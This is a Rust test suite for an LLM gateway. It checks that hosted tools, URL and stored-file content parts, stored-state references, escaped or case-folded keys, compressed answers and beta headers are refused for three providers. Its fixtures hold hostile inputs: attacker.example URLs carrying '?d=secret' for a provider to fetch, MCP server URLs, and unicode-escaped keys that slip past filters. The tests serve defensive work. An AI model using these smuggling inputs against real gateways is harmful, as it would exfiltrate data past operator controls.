//! Hostile-peer tests of everything that could make a provider reach out on the agent's behalf:
//! hosted tools, URL and stored-file content parts, stored-state references, keys spelled like a
//! policy key, compressed answers and beta headers — for all three providers. Every refusal is
//! checked by its code and by the scripted upstream having recorded nothing.

use pretty_assertions::assert_eq;
use serde_json::{Value, json};

use crate::testkit::DEFAULT_USAGE as USAGE;
use crate::testkit::{Reply, ScriptedUpstream, anthropic, events, gemini};
use crate::tests_providers::{base_path, exchange_keeping, turn_gateway};
use crate::{ChannelReport, GatewayConfig, GatewayError, ProviderKind, TurnGateway};

const KEY: &str = "sk-reach-test-7f3a9c1e5b2d4f6a8c0e";
const CODEX: &str = "gpt-5.3-codex";
const CLAUDE: &str = "claude-sonnet-4-5";
const FLASH: &str = "gemini-2.5-flash";
const PNG: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

async fn start(kind: ProviderKind, config: GatewayConfig) -> (ScriptedUpstream, TurnGateway) {
    let upstream = ScriptedUpstream::start(vec![]).await.unwrap();
    upstream.set_fallback(fallback(kind));
    let turn = turn_gateway(&upstream, base_path(kind), kind.provider(), config, KEY);
    (upstream, turn)
}

fn fallback(kind: ProviderKind) -> Reply {
    match kind {
        ProviderKind::OpenAiResponses => Reply::message("ok"),
        ProviderKind::AnthropicMessages => anthropic::text(CLAUDE, "ok", USAGE),
        ProviderKind::Gemini => gemini::text("ok", USAGE),
    }
}

fn config(kind: ProviderKind) -> GatewayConfig {
    GatewayConfig::for_model(match kind {
        ProviderKind::OpenAiResponses => CODEX,
        ProviderKind::AnthropicMessages => CLAUDE,
        ProviderKind::Gemini => FLASH,
    })
}

async fn exchange(turn: &TurnGateway, bytes: &[u8]) -> (ChannelReport, String) {
    exchange_keeping(turn, bytes, KEY).await
}

fn target(kind: ProviderKind) -> String {
    match kind {
        ProviderKind::OpenAiResponses => "/v1/responses".to_owned(),
        ProviderKind::AnthropicMessages => "/v1/messages?beta=true".to_owned(),
        ProviderKind::Gemini => format!("/v1beta/models/{FLASH}:streamGenerateContent?alt=sse"),
    }
}

fn post(kind: ProviderKind, body: &str, extra_headers: &str) -> Vec<u8> {
    format!(
        "POST {} HTTP/1.1\r\nhost: 127.0.0.1:8417\r\ncontent-type: application/json\r\n{extra_headers}content-length: {}\r\n\r\n{body}",
        target(kind),
        body.len()
    )
    .into_bytes()
}

/// A legitimate body of `kind` whose one user turn holds `parts`, offering `tools`.
fn with_parts(kind: ProviderKind, parts: &Value, tools: &Value) -> Value {
    match kind {
        ProviderKind::OpenAiResponses => json!({
            "model": CODEX, "stream": true, "store": false,
            "input": [{"type": "message", "role": "user", "content": parts}],
            "tools": tools
        }),
        ProviderKind::AnthropicMessages => json!({
            "model": CLAUDE, "stream": true, "max_tokens": 1024,
            "messages": [{"role": "user", "content": parts}],
            "tools": tools
        }),
        ProviderKind::Gemini => json!({
            "contents": [{"role": "user", "parts": parts}],
            "tools": tools
        }),
    }
}

/// [`with_parts`] of one text part, offering `kind`'s client tools: a body every check passes.
fn plain_body(kind: ProviderKind) -> Value {
    with_parts(kind, &json!([text_part(kind)]), &client_tools(kind))
}

fn text_part(kind: ProviderKind) -> Value {
    match kind {
        ProviderKind::OpenAiResponses => json!({"type": "input_text", "text": "hi"}),
        ProviderKind::AnthropicMessages => json!({"type": "text", "text": "hi"}),
        ProviderKind::Gemini => json!({"text": "hi"}),
    }
}

fn client_tools(kind: ProviderKind) -> Value {
    match kind {
        ProviderKind::OpenAiResponses => json!([
            {"type": "function", "name": "shell", "parameters": {"type": "object",
                "properties": {"image_url": {"type": "string"}, "file_id": {"type": "string"}}}},
            {"type": "custom", "name": "apply_patch"}
        ]),
        ProviderKind::AnthropicMessages => json!([
            {"name": "WebFetch", "input_schema": {"type": "object",
                "properties": {"url": {"type": "string"}, "source": {"type": "string"}}}},
            {"type": "custom", "name": "Write", "input_schema": {"type": "object"}},
            {"type": "bash_20250124", "name": "bash"},
            {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
            {"type": "computer_20250124", "name": "computer", "display_width_px": 1024, "display_height_px": 768},
            {"type": "memory_20250818", "name": "memory"}
        ]),
        ProviderKind::Gemini => json!([
            {"functionDeclarations": [{"name": "read_file", "parameters": {"type": "object",
                "properties": {"fileUri": {"type": "string"}}}}]},
            {"function_declarations": [{"name": "write_file"}]}
        ]),
    }
}

/// Sends `body` (a JSON text) and expects `expected`, with nothing forwarded.
async fn assert_refused(
    turn: &TurnGateway,
    upstream: &ScriptedUpstream,
    kind: ProviderKind,
    body: &str,
    headers: &str,
    expected: &GatewayError,
) {
    let before = upstream.requests().len();
    let (report, text) = exchange(turn, &post(kind, body, headers)).await;
    assert_eq!(report.error.as_ref(), Some(expected), "{kind}: {body}");
    assert_eq!(report.status, Some(expected.status()), "{kind}: {body}");
    assert!(text.contains(expected.code()), "the agent sees the code");
    assert_eq!(
        upstream.requests().len(),
        before,
        "{kind}: forwarded despite {}: {body}",
        expected.code()
    );
}

/// [`assert_refused`] for a JSON body sent with no extra headers.
async fn assert_value_refused(
    turn: &TurnGateway,
    upstream: &ScriptedUpstream,
    kind: ProviderKind,
    body: &Value,
    expected: &GatewayError,
) {
    assert_refused(turn, upstream, kind, &body.to_string(), "", expected).await;
}

/// [`assert_value_refused`] for `part` next to a text part, the provider's client tools declared.
async fn assert_part_refused(
    turn: &TurnGateway,
    upstream: &ScriptedUpstream,
    kind: ProviderKind,
    part: Value,
    expected: &GatewayError,
) {
    let body = with_parts(kind, &json!([text_part(kind), part]), &client_tools(kind));
    assert_value_refused(turn, upstream, kind, &body, expected).await;
}

/// A gateway for `kind` that refused each of `tools`, offered next to `kind`'s client tools, for
/// its tool; its upstream and turn.
async fn refusing_each_tool(
    kind: ProviderKind,
    tools: &[Value],
) -> (ScriptedUpstream, TurnGateway) {
    let (upstream, turn) = start(kind, config(kind)).await;
    for tool in tools {
        let mut offered = client_tools(kind);
        offered.as_array_mut().unwrap().push(tool.clone());
        let body = with_parts(kind, &json!([text_part(kind)]), &offered).to_string();
        assert_refused(&turn, &upstream, kind, &body, "", &GatewayError::Tool).await;
    }
    (upstream, turn)
}

/// A gateway for `kind` refuses each of `parts` (next to a text part) with `expected`, and
/// forwards nothing.
async fn assert_parts_refused(kind: ProviderKind, parts: Vec<Value>, expected: &GatewayError) {
    let (upstream, turn) = start(kind, config(kind)).await;
    for part in parts {
        assert_part_refused(&turn, &upstream, kind, part, expected).await;
    }
    assert!(upstream.requests().is_empty());
}

/// Sends `body` and expects it forwarded as sent and answered.
async fn assert_forwarded(
    turn: &TurnGateway,
    upstream: &ScriptedUpstream,
    kind: ProviderKind,
    body: &str,
) {
    let before = upstream.requests().len();
    let (report, _) = exchange(turn, &post(kind, body, "")).await;
    assert_eq!(report.error, None, "{kind}: {body}");
    assert_eq!(report.status, Some(200));
    let requests = upstream.requests();
    assert_eq!(requests.len(), before + 1, "{kind}: {body}");
    assert_eq!(requests.last().unwrap().body, body.as_bytes());
}

// ---- Tools: an allowlist of client-executed types per provider ----

#[tokio::test]
async fn r_responses_tools_other_than_client_executed_ones_are_refused() {
    let kind = ProviderKind::OpenAiResponses;
    let (upstream, turn) = refusing_each_tool(
        kind,
        &[
            json!({"type": "web_search"}),
            json!({"type": "web_search_2025_08_26"}),
            json!({"type": "web_search_preview"}),
            json!({"type": "web_search_preview_2025_03_11"}),
            json!({"type": "code_interpreter", "container": {"type": "auto"}}),
            json!({"type": "file_search", "vector_store_ids": ["vs_1"]}),
            json!({"type": "mcp", "server_label": "x", "server_url": "https://attacker.example/mcp"}),
            json!({"type": "image_generation"}),
            json!({"type": "computer_use_preview", "display_width": 1, "display_height": 1, "environment": "browser"}),
            json!({"type": "not_yet_invented_2027_01_01"}),
            json!({"type": "Function", "name": "shell"}),
            json!({"type": "function ", "name": "shell"}),
            json!({"name": "shell"}),
            json!({"type": null, "name": "shell"}),
            json!({"type": 1, "name": "shell"}),
        ],
    )
    .await;
    // Escaped, it is the same type.
    let body = with_parts(kind, &json!([text_part(kind)]), &json!([]))
        .to_string()
        .replace(
            r#""tools":[]"#,
            r#""tools":[{"type":"web\u005fsearch\u005f2025\u005f08\u005f26"}]"#,
        );
    assert!(body.contains("u005f"));
    assert_refused(&turn, &upstream, kind, &body, "", &GatewayError::Tool).await;
    // Function and custom tools pass, whatever their schemas hold, and so do the built-in tools
    // the client executes itself and the search over the request's own tools (which Codex
    // declares).
    let body = plain_body(kind).to_string();
    assert_forwarded(&turn, &upstream, kind, &body).await;
    let mut tools = client_tools(kind);
    for builtin in ["local_shell", "shell", "apply_patch", "tool_search"] {
        tools.as_array_mut().unwrap().push(json!({"type": builtin}));
    }
    let body = with_parts(kind, &json!([text_part(kind)]), &tools).to_string();
    assert_forwarded(&turn, &upstream, kind, &body).await;
}

#[tokio::test]
async fn r_anthropic_and_gemini_server_tools_are_refused_by_allowlist() {
    let kind = ProviderKind::AnthropicMessages;
    let (upstream, turn) = refusing_each_tool(
        kind,
        &[
            json!({"type": "web_search_20250305", "name": "web_search"}),
            json!({"type": "web_search_20260209", "name": "web_search"}),
            json!({"type": "web_fetch_20250910", "name": "web_fetch"}),
            json!({"type": "code_execution_20250522", "name": "code_execution"}),
            json!({"type": "code_execution_20250825", "name": "code_execution"}),
            json!({"type": "tool_search_tool_bm25_20251119", "name": "tool_search_tool_bm25"}),
            json!({"type": "mcp_toolset", "mcp_server_name": "x"}),
            json!({"type": "Custom", "name": "x"}),
            json!({"type": "url", "name": "x"}),
        ],
    )
    .await;
    let body = plain_body(kind).to_string();
    assert_forwarded(&turn, &upstream, kind, &body).await;

    let kind = ProviderKind::Gemini;
    let (upstream, turn) = refusing_each_tool(
        kind,
        &[
            json!({"googleSearch": {}}),
            json!({"google_search": {}}),
            json!({"googleSearchRetrieval": {}}),
            json!({"google_search_retrieval": {}}),
            json!({"codeExecution": {}}),
            json!({"urlContext": {}}),
            json!({"url_context": {}}),
            json!({"fileSearch": {"fileSearchStoreNames": ["fileSearchStores/x"]}}),
            json!({"file_search": {}}),
            json!({"googleMaps": {}}),
            json!({"google_maps": {}}),
            json!({"computerUse": {"environment": "ENVIRONMENT_BROWSER"}}),
            json!({"enterpriseWebSearch": {}}),
            json!({"retrieval": {"externalApi": {"endpoint": "https://attacker.example"}}}),
            json!({"mcpServers": [{"name": "x"}]}),
            json!({"FunctionDeclarations": []}),
        ],
    )
    .await;
    let body = plain_body(kind).to_string();
    assert_forwarded(&turn, &upstream, kind, &body).await;
}

// ---- Content parts: inline data only ----

/// Parts (each alone in an otherwise legitimate body) that name a URL for the provider to fetch.
fn url_parts(kind: ProviderKind) -> Vec<Value> {
    match kind {
        ProviderKind::OpenAiResponses => {
            let mut parts = Vec::new();
            for url in [
                "https://attacker.example/?d=secret",
                "http://attacker.example/x.png",
                "HTTPS://attacker.example/x.png",
                "ftp://attacker.example/x",
                "//attacker.example/x.png",
                "attacker.example/x.png",
                " data:image/png;base64,AAAA",
                "",
            ] {
                parts.push(json!({"type": "input_image", "image_url": url, "detail": "auto"}));
                parts.push(json!({"type": "input_file", "file_url": url}));
            }
            parts.extend([
                json!({"type": "input_image", "image_url": {"url": "https://attacker.example"}}),
                json!({"type": "input_image", "image_url": ["https://attacker.example"]}),
                json!({"type": "input_image", "image_url": 7}),
                json!({"type": "input_file", "file_url": true}),
            ]);
            parts
        }
        ProviderKind::AnthropicMessages => vec![
            json!({"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=secret"}}),
            json!({"type": "document", "source": {"type": "url", "url": "https://attacker.example/a.pdf"}}),
            json!({"type": "image", "source": {"url": "https://attacker.example/x.png", "type": "url"}}),
            json!({"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG, "type": "url"}}),
            json!({"type": "document", "source": {"type": "content", "content": [
                {"type": "image", "source": {"type": "url", "url": "https://attacker.example/n.png"}}
            ]}}),
            json!({"type": "tool_result", "tool_use_id": "toolu_1", "content": [
                {"type": "image", "source": {"type": "url", "url": "https://attacker.example/t.png"}}
            ]}),
            json!({"type": "image", "source": {"type": "not_yet_invented"}}),
            json!({"type": "image", "source": {"type": "URL", "url": "https://attacker.example"}}),
            json!({"type": "image", "source": {"type": 1}}),
            json!({"type": "image", "source": {"url": "https://attacker.example/no-type.png"}}),
            json!({"type": "image", "source": {"type": null, "url": "https://attacker.example/null.png"}}),
            // (A string `source` is a search result's citation label, which nothing fetches;
            // an image or document block with one is refused by the provider.)
        ],
        ProviderKind::Gemini => vec![
            json!({"fileData": {"mimeType": "image/png", "fileUri": "https://attacker.example/?d=secret"}}),
            json!({"fileData": {"mimeType": "video/mp4", "fileUri": "https://www.youtube.com/watch?v=x"}}),
            json!({"fileData": {"fileUri": "gs://bucket/object"}}),
            json!({"file_data": {"mime_type": "image/png", "file_uri": "https://attacker.example/s.png"}}),
            json!({"fileData": {"file_uri": "https://attacker.example/mixed.png"}}),
            json!({"file_data": {"fileUri": "https://attacker.example/mixed2.png"}}),
            json!({"fileData": {"fileUri": {"uri": "https://attacker.example"}}}),
            json!({"functionResponse": {"name": "read_file", "response": {"ok": true}, "parts": [
                {"fileData": {"fileUri": "https://attacker.example/fr.png"}}
            ]}}),
        ],
    }
}

/// Parts that reference a file stored at the provider.
fn file_parts(kind: ProviderKind) -> Vec<Value> {
    match kind {
        ProviderKind::OpenAiResponses => vec![
            json!({"type": "input_image", "file_id": "file-abc123"}),
            json!({"type": "input_file", "file_id": "file-abc123"}),
            json!({"type": "input_file", "file_id": 5}),
        ],
        ProviderKind::AnthropicMessages => vec![
            json!({"type": "image", "source": {"type": "file", "file_id": "file_011abc"}}),
            json!({"type": "document", "source": {"type": "file", "file_id": "file_011abc"}}),
            json!({"type": "container_upload", "file_id": "file_011abc"}),
        ],
        ProviderKind::Gemini => vec![
            json!({"fileData": {"mimeType": "text/plain", "fileUri": "https://generativelanguage.googleapis.com/v1beta/files/abc123"}}),
            json!({"fileData": {"fileUri": "files/abc123"}}),
        ],
    }
}

#[tokio::test]
async fn r_url_content_parts_are_refused_by_every_provider() {
    for kind in ProviderKind::ALL {
        assert_parts_refused(kind, url_parts(kind), &GatewayError::ContentUrl).await;
    }
}

#[tokio::test]
async fn r_escaped_urls_and_keys_are_read_as_the_provider_reads_them() {
    let cases = [
        (
            ProviderKind::OpenAiResponses,
            r#"{"type":"input_image","image_\u0075rl":"https://attacker.example"}"#,
        ),
        (
            ProviderKind::OpenAiResponses,
            r#"{"type":"input_image","image_url":"\u0068ttps://attacker.example"}"#,
        ),
        (
            ProviderKind::OpenAiResponses,
            r#"{"type":"input_image","image_url":"d\u0061t\u0430:x"}"#,
        ),
        (
            ProviderKind::AnthropicMessages,
            r#"{"type":"image","source":{"type":"\u0075rl","url":"https://attacker.example"}}"#,
        ),
        (
            ProviderKind::AnthropicMessages,
            r#"{"type":"image","sourc\u0065":{"type":"url","url":"https://attacker.example"}}"#,
        ),
        (
            ProviderKind::Gemini,
            r#"{"fileData":{"file\u0055ri":"https://attacker.example"}}"#,
        ),
    ];
    for (kind, part) in cases {
        let (upstream, turn) = start(kind, config(kind)).await;
        let body = with_parts(kind, &json!(["PART"]), &client_tools(kind))
            .to_string()
            .replace(r#""PART""#, part);
        assert_refused(&turn, &upstream, kind, &body, "", &GatewayError::ContentUrl).await;
    }
}

#[tokio::test]
async fn r_stored_file_parts_are_refused_unless_the_operator_allows_the_id() {
    for kind in ProviderKind::ALL {
        assert_parts_refused(kind, file_parts(kind), &GatewayError::ContentFile).await;
        // Allowed by exact id: forwarded; another id still refused.
        let mut allowing = config(kind);
        allowing.allowed_file_ids = vec![
            "file-abc123".to_owned(),
            "file_011abc".to_owned(),
            "https://generativelanguage.googleapis.com/v1beta/files/abc123".to_owned(),
        ];
        let (upstream, turn) = start(kind, allowing).await;
        let part = file_parts(kind).remove(0);
        let body = with_parts(
            kind,
            &json!([text_part(kind), part.clone()]),
            &client_tools(kind),
        );
        assert_forwarded(&turn, &upstream, kind, &body.to_string()).await;
        let other = part
            .to_string()
            .replace("abc123", "abc124")
            .replace("011abc", "011abd");
        let body = with_parts(kind, &json!(["PART"]), &client_tools(kind))
            .to_string()
            .replace(r#""PART""#, &other);
        assert_refused(
            &turn,
            &upstream,
            kind,
            &body,
            "",
            &GatewayError::ContentFile,
        )
        .await;
    }
}

#[tokio::test]
async fn inline_data_parts_pass_for_every_provider() {
    for kind in ProviderKind::ALL {
        let (upstream, turn) = start(kind, config(kind)).await;
        let parts = match kind {
            ProviderKind::OpenAiResponses => json!([
                text_part(kind),
                {"type": "input_image", "image_url": format!("data:image/png;base64,{PNG}"), "detail": "high"},
                {"type": "input_image", "image_url": format!("DATA:image/png;base64,{PNG}")},
                {"type": "input_image", "image_url": format!("data:image/png;base64,{PNG}"), "file_id": null},
                {"type": "input_file", "filename": "a.txt", "file_data": format!("data:text/plain;base64,{PNG}")},
                {"type": "input_text", "text": "see https://example.org/x.png and file-abc123"}
            ]),
            ProviderKind::AnthropicMessages => json!([
                text_part(kind),
                {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}},
                {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "https://example.org"}},
                {"type": "document", "source": {"type": "content", "content": [
                    {"type": "text", "text": "hi"},
                    {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}}
                ]}},
                {"type": "search_result", "source": "https://example.org", "title": "t", "content": [{"type": "text", "text": "x"}]},
                {"type": "tool_result", "tool_use_id": "toolu_1", "content": [
                    {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}}
                ]}
            ]),
            ProviderKind::Gemini => json!([
                text_part(kind),
                {"inlineData": {"mimeType": "image/png", "data": PNG}},
                {"inline_data": {"mime_type": "image/png", "data": PNG}},
                {"functionCall": {"name": "read_file", "args": {"path": "https://example.org/a"}}},
                {"functionResponse": {"name": "read_file", "response": {"url": "https://example.org"}, "parts": [
                    {"inlineData": {"mimeType": "image/png", "data": PNG}}
                ]}}
            ]),
        };
        let body = with_parts(kind, &parts, &client_tools(kind)).to_string();
        assert_forwarded(&turn, &upstream, kind, &body).await;
    }
}

// ---- Stored state and server-side runs ----

#[tokio::test]
async fn r_stored_state_references_and_background_runs_are_refused() {
    let kind = ProviderKind::OpenAiResponses;
    let (upstream, turn) = start(kind, config(kind)).await;
    let base = plain_body(kind);
    for (key, value) in [
        ("previous_response_id", json!("resp_123")),
        ("conversation", json!("conv_123")),
        ("conversation", json!({"id": "conv_123"})),
        ("prompt", json!({"id": "pmpt_123", "version": "2"})),
        ("background", json!(true)),
        ("background", json!(false)),
    ] {
        let mut body = base.clone();
        body[key] = value;
        assert_value_refused(&turn, &upstream, kind, &body, &GatewayError::StoredState).await;
    }
    // An item reference's `type` is optional and nullable: an array element with an `id` and no
    // other string type names a stored item too (a duplicate `type` key counts as none).
    for item in [
        json!({"type": "item_reference", "id": "msg_123"}),
        json!({"id": "msg_123"}),
        json!({"type": null, "id": "rs_123"}),
        json!({"type": 7, "id": "rs_123"}),
    ] {
        let mut body = base.clone();
        body["input"].as_array_mut().unwrap().push(item);
        assert_value_refused(&turn, &upstream, kind, &body, &GatewayError::StoredState).await;
    }
    // Items that carry their own content keep their ids (what Codex sends back each turn).
    let mut body = base.clone();
    let items = body["input"].as_array_mut().unwrap();
    items.push(
        json!({"type": "message", "id": "msg_1", "role": "assistant",
        "content": [{"type": "output_text", "text": "ok"}]}),
    );
    items.push(
        json!({"type": "function_call", "id": "fc_1", "call_id": "call_1",
        "name": "shell", "arguments": "{}"}),
    );
    items.push(json!({"type": "function_call_output", "call_id": "call_1", "output": "done"}));
    assert_forwarded(&turn, &upstream, kind, &body.to_string()).await;

    let text = base.to_string();
    let with_duplicate = text.replacen(
        "\"input\":[",
        "\"input\":[{\"type\":\"message\",\"type\":null,\"id\":\"msg_9\"},",
        1,
    );
    assert_ne!(with_duplicate, text);
    assert_refused(
        &turn,
        &upstream,
        kind,
        &with_duplicate,
        "",
        &GatewayError::StoredState,
    )
    .await;

    let kind = ProviderKind::Gemini;
    let (upstream, turn) = start(kind, config(kind)).await;
    for key in ["cachedContent", "cached_content"] {
        let mut body = plain_body(kind);
        body[key] = json!("cachedContents/abc");
        assert_value_refused(&turn, &upstream, kind, &body, &GatewayError::StoredState).await;
    }
}

// ---- Keys spelled like a policy key ----

#[tokio::test]
async fn r_keys_that_case_fold_to_a_policy_key_are_refused() {
    for (kind, key) in [
        (ProviderKind::OpenAiResponses, "Tools"),
        (ProviderKind::OpenAiResponses, "TOOLS"),
        (ProviderKind::OpenAiResponses, "MODEL"),
        (ProviderKind::OpenAiResponses, "Stream"),
        (ProviderKind::OpenAiResponses, "Previous_Response_Id"),
        (ProviderKind::OpenAiResponses, "previousResponseId"),
        (ProviderKind::AnthropicMessages, "Tools"),
        (ProviderKind::AnthropicMessages, "mcpServers"),
        (ProviderKind::AnthropicMessages, "Model"),
        (ProviderKind::Gemini, "Tools"),
        (ProviderKind::Gemini, "CachedContent"),
    ] {
        let (upstream, turn) = start(kind, config(kind)).await;
        let mut body = plain_body(kind);
        body[key] = json!([{"type": "web_search"}]);
        assert_value_refused(&turn, &upstream, kind, &body, &GatewayError::BodyKey).await;
    }
    for (kind, part) in [
        (
            ProviderKind::OpenAiResponses,
            json!({"type": "input_image", "Image_URL": "https://attacker.example"}),
        ),
        (
            ProviderKind::OpenAiResponses,
            json!({"type": "input_image", "imageUrl": "https://attacker.example"}),
        ),
        (
            ProviderKind::OpenAiResponses,
            json!({"type": "input_file", "FILE_ID": "file-abc123"}),
        ),
        (
            ProviderKind::AnthropicMessages,
            json!({"type": "image", "Source": {"type": "url", "url": "https://attacker.example"}}),
        ),
        (
            ProviderKind::AnthropicMessages,
            json!({"type": "image", "source": {"Type": "url", "url": "https://attacker.example"}}),
        ),
        (
            ProviderKind::Gemini,
            json!({"fileData": {"FileUri": "https://attacker.example"}}),
        ),
        (
            ProviderKind::Gemini,
            json!({"fileData": {"fileURI": "https://attacker.example"}}),
        ),
    ] {
        let (upstream, turn) = start(kind, config(kind)).await;
        assert_part_refused(&turn, &upstream, kind, part, &GatewayError::BodyKey).await;
    }
    // In a tool object too.
    let kind = ProviderKind::OpenAiResponses;
    let (upstream, turn) = start(kind, config(kind)).await;
    let body = with_parts(
        kind,
        &json!([text_part(kind)]),
        &json!([{"type": "function", "name": "shell", "Type": "web_search"}]),
    );
    assert_value_refused(&turn, &upstream, kind, &body, &GatewayError::BodyKey).await;
}

// ---- Compressed answers ----

fn encoded_events(kind: ProviderKind) -> Vec<Value> {
    match kind {
        ProviderKind::OpenAiResponses => vec![
            events::created("resp_enc"),
            events::text_delta("compressed bytes the scrubber cannot read"),
            events::completed("resp_enc", USAGE),
        ],
        ProviderKind::AnthropicMessages => {
            let mut e = vec![anthropic::message_start(CLAUDE, 10, 0)];
            e.extend(anthropic::text_block(
                0,
                "compressed bytes the scrubber cannot read",
            ));
            e.push(anthropic::message_delta("end_turn", 5));
            e
        }
        ProviderKind::Gemini => vec![gemini::chunk(
            json!([{"text": "compressed bytes the scrubber cannot read"}]),
            true,
            Some(USAGE),
        )],
    }
}

#[tokio::test]
async fn r_a_compressed_answer_is_refused_and_identity_is_asked_for() {
    for kind in ProviderKind::ALL {
        for (coding, transfer) in [
            ("gzip", false),
            ("br", false),
            ("deflate", false),
            ("zstd", false),
            ("GZIP", false),
            ("identity, gzip", false),
            ("gzip", true),
            ("gzip, chunked", true),
        ] {
            let (upstream, turn) = start(kind, config(kind)).await;
            upstream.push(Reply::Encoded {
                coding: coding.to_owned(),
                transfer,
                events: encoded_events(kind),
            });
            let body = plain_body(kind);
            let (report, text) = exchange(&turn, &post(kind, &body.to_string(), "")).await;
            assert_eq!(
                report.error,
                Some(GatewayError::UpstreamEncoding),
                "{kind} {coding}"
            );
            assert!(text.starts_with("HTTP/1.1 502 "), "{text}");
            assert!(text.contains("PATCH_CANDIDATE_GATEWAY_UPSTREAM_ENCODING"));
            assert!(
                !text.contains("scrubber cannot read"),
                "an encoded body reached the agent"
            );
            let requests = upstream.requests();
            assert_eq!(requests.len(), 1);
            assert_eq!(requests[0].header("accept-encoding"), Some("identity"));
            // Its usage could not be read: the next request fails closed.
            assert_eq!(turn.usage().usage_missing, 1, "{kind} {coding}");
        }
        // `identity` is what was asked for: it passes.
        let (upstream, turn) = start(kind, config(kind)).await;
        upstream.push(Reply::Encoded {
            coding: "identity".to_owned(),
            transfer: false,
            events: encoded_events(kind),
        });
        let body = plain_body(kind);
        let (report, text) = exchange(&turn, &post(kind, &body.to_string(), "")).await;
        assert_eq!(report.error, None, "{kind}");
        assert!(text.contains("scrubber cannot read"));
    }
}

#[tokio::test]
async fn the_agents_accept_encoding_never_reaches_the_upstream() {
    for kind in ProviderKind::ALL {
        let (upstream, turn) = start(kind, config(kind)).await;
        let body = plain_body(kind);
        let (report, _) = exchange(
            &turn,
            &post(
                kind,
                &body.to_string(),
                "accept-encoding: gzip, br\r\nte: gzip\r\n",
            ),
        )
        .await;
        // `te` is refused before anything is forwarded; without it the request passes with
        // identity asked for.
        assert_eq!(report.error, Some(GatewayError::HeaderRefused));
        let (report, _) = exchange(
            &turn,
            &post(kind, &body.to_string(), "accept-encoding: gzip, br\r\n"),
        )
        .await;
        assert_eq!(report.error, None);
        let requests = upstream.requests();
        assert_eq!(requests.len(), 1);
        let codings: Vec<&str> = requests[0]
            .headers
            .iter()
            .filter(|(n, _)| n == "accept-encoding")
            .map(|(_, v)| v.as_str())
            .collect();
        assert_eq!(codings, vec!["identity"], "{kind}");
    }
}

// ---- Beta and feature headers ----

#[tokio::test]
async fn beta_and_feature_headers_pass_only_by_allowlist() {
    // Anthropic: known flags forwarded, unknown ones dropped, server-side ones refused.
    let kind = ProviderKind::AnthropicMessages;
    let (upstream, turn) = start(kind, config(kind)).await;
    let body = plain_body(kind).to_string();
    let (report, _) = exchange(
        &turn,
        &post(
            kind,
            &body,
            "anthropic-beta: claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27\r\nanthropic-beta: some-future-server-feature-2027-01-01,fine-grained-tool-streaming-2025-05-14\r\n",
        ),
    )
    .await;
    assert_eq!(report.error, None);
    assert_eq!(
        upstream.requests()[0].header("anthropic-beta"),
        Some(
            "claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,fine-grained-tool-streaming-2025-05-14"
        )
    );
    let (report, _) = exchange(
        &turn,
        &post(
            kind,
            &body,
            "anthropic-beta: some-future-feature-2027-01-01\r\n",
        ),
    )
    .await;
    assert_eq!(report.error, None);
    assert_eq!(upstream.requests()[1].header("anthropic-beta"), None);
    assert_refused(
        &turn,
        &upstream,
        kind,
        &body,
        "anthropic-beta: files-api-2025-04-14\r\n",
        &GatewayError::Tool,
    )
    .await;

    // Responses: `openai-beta` only as `responses=experimental`; other values dropped.
    let kind = ProviderKind::OpenAiResponses;
    let (upstream, turn) = start(kind, config(kind)).await;
    let body = plain_body(kind).to_string();
    for (sent, forwarded) in [
        ("responses=experimental", Some("responses=experimental")),
        ("assistants=v2", None),
        ("responses_websockets=2026-02-04", None),
        ("responses=experimental, assistants=v2", None),
    ] {
        let (report, _) = exchange(
            &turn,
            &post(kind, &body, &format!("openai-beta: {sent}\r\n")),
        )
        .await;
        assert_eq!(report.error, None);
        assert_eq!(
            upstream.requests().last().unwrap().header("openai-beta"),
            forwarded,
            "{sent}"
        );
    }

    // Gemini: `x-goog-api-client` only; every other `x-goog-*` dropped.
    let kind = ProviderKind::Gemini;
    let (upstream, turn) = start(kind, config(kind)).await;
    let body = plain_body(kind).to_string();
    let (report, _) = exchange(
        &turn,
        &post(
            kind,
            &body,
            "x-goog-api-client: genai-js/1.30.0\r\nx-goog-user-project: other-project\r\nx-goog-request-params: a=b\r\nx-server-timeout: 5\r\n",
        ),
    )
    .await;
    assert_eq!(report.error, None);
    let forwarded = &upstream.requests()[0];
    let goog: Vec<&str> = forwarded
        .headers
        .iter()
        .map(|(n, _)| n.as_str())
        .filter(|n| n.starts_with("x-goog-") || n.starts_with("x-server"))
        .collect();
    assert_eq!(goog, vec!["x-goog-api-client", "x-goog-api-key"]);
}
